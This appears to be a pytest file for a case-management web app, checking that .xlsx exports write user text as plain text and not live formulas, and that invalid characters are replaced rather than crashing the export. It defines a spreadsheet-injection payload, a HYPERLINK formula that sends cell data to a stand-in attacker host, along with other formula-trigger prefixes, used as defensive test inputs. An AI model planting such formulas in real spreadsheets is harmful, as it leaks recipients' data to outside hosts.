"""Spreadsheet exports (#10, item 2): text is written as text, never as a live formula, and a character a
workbook cannot hold does not fail the export. One writer (web.spreadsheet) for every .xlsx."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from handlers.models import EnterpriseCase
from tests.web.conftest import login, start_case
from tests.xlsx import table
from web.spreadsheet import Column, Sheet, safe_text, workbook_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("value", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_value_a_spreadsheet_would_run_is_written_as_text(value: str) -> None:
    data = workbook_bytes(Sheet("s", "t", [Column("a")], [[value]]))
    _, body = table(load_workbook(BytesIO(data)).active)
    assert body[0][0] == safe_text(value) and body[0][0].startswith("'")
    with zipfile.ZipFile(BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula element anywhere


def test_characters_a_workbook_cannot_hold_are_replaced_not_fatal() -> None:
    data = workbook_bytes(Sheet("s", "t", [Column("a"), Column("b")], [["ab\x00c\x0bd", "x" * 40000]]))
    _, body = table(load_workbook(BytesIO(data)).active)
    assert body[0][0] == "ab\ufffdc\ufffdd" and len(body[0][1]) == 32767


def test_the_ledger_export_of_hostile_case_data_opens_as_plain_text(client, web_engine) -> None:
    """A name from the anonymous public form reached the supervisor's file as a live formula, and a vertical tab
    in any field made the whole region's export fail with 500 (data written before input was checked)."""
    first = start_case(web_engine, unit="PA01", enterprise_name="磐安某药业有限公司")
    second = start_case(web_engine, unit="PA01", title="排污许可")
    with web_engine.session() as session:
        session.execute(update(EnterpriseCase).where(EnterpriseCase.business_key == first.business_key)
                        .values(enterprise_name=HOSTILE))
        session.execute(update(EnterpriseCase).where(EnterpriseCase.business_key == second.business_key)
                        .values(title="排污\x0b许可\x00"))
    login(client, "pa_super")
    response = client.get("/supervision/ledger.xlsx")
    assert response.status_code == 200
    header, body = table(load_workbook(BytesIO(response.data)).active)
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in body}
    assert rows[first.business_key]["企业名称"] == "'" + HOSTILE
    assert rows[second.business_key]["诉求事项"] == "排污\ufffd许可\ufffd"


def test_exports_carry_a_frozen_header_a_filter_and_who_exported_when(client, web_engine) -> None:
    start_case(web_engine, unit="PA01")
    login(client, "pa_super")
    ws = load_workbook(BytesIO(client.get("/supervision/ledger.xlsx?status=handling").data)).active
    notes = [ws.cell(row=r, column=1).value for r in range(2, 5)]
    assert "台账状态：办理中" in notes[0] and "pa_super" in notes[1] and "北京时间" in notes[2]
    assert ws.freeze_panes == "A6" and ws.auto_filter.ref.startswith("A5:")
    header, _ = table(ws)
    assert "承办单位" in header
